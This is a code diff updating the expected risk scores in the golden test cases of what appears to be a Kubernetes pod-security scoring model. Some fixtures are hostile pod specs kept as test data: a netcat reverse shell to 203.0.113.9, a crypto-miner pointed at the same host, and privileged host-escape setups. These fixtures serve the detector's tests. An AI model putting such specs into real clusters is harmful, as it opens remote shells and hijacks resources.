@@ -288,10 +288,10 @@ PRIVILEGED: Json = {"securityContext": {"privileged": True}}
 
 #: What the shipped model says, and whether the pod stands by itself. Whoever trains a new one sees here what changes.
 GOLDEN: dict[str, tuple[float, bool, Json]] = {
-    "an application": (0.001053, False, {"containers": [{"image": "registry.example.com/shop/web:1.4"}]}),
-    "a pod by itself": (0.013043, True, {"containers": [{"image": "registry.example.com/shop/web:1.4"}]}),
+    "an application": (0.001153, False, {"containers": [{"image": "registry.example.com/shop/web:1.4"}]}),
+    "a pod by itself": (0.015361, True, {"containers": [{"image": "registry.example.com/shop/web:1.4"}]}),
     "a network plugin": (
-        0.005722,
+        0.00537,
         False,
         {
             "hostNetwork": True,
@@ -301,7 +301,7 @@ GOLDEN: dict[str, tuple[float, bool, Json]] = {
         },
     ),
     "a metrics exporter": (
-        0.002890,
+        0.001170,
         False,
         {
             "hostNetwork": True,
@@ -311,23 +311,23 @@ GOLDEN: dict[str, tuple[float, bool, Json]] = {
         },
     ),
     "a build with the docker socket": (
-        0.181051,
+        0.40503,
         False,
         {**SOCKET, "containers": [{"image": "docker:27-cli", "command": ["sh", "-c", "docker build ."], **MOUNT}]},
     ),
-    "a base image asleep": (0.013376, False, {"containers": [{"image": "alpine", "command": ["sleep", "infinity"]}]}),
+    "a base image asleep": (0.013296, False, {"containers": [{"image": "alpine", "command": ["sleep", "infinity"]}]}),
     "a privileged base image asleep": (
-        0.683743,
+        0.855443,
         True,
         {"containers": [{"image": "ubuntu", "command": ["sleep", "infinity"], **PRIVILEGED}]},
     ),
     "a reverse shell": (
-        0.986268,
+        0.989625,
         True,
         {"containers": [{"image": "alpine", "command": ["sh", "-c", "nc 203.0.113.9 4444 -e /bin/sh"]}]},
     ),
     "into the host": (
-        0.987038,
+        0.997684,
         True,
         {
             "hostPID": True,
@@ -335,7 +335,7 @@ GOLDEN: dict[str, tuple[float, bool, Json]] = {
         },
     ),
     "a miner in an application's deployment": (
-        0.019775,
+        0.05094,
         False,
         {"containers": [{"image": "somebody/worker", "args": ["-o", "stratum+tcp://203.0.113.9:3333"]}]},
     ),
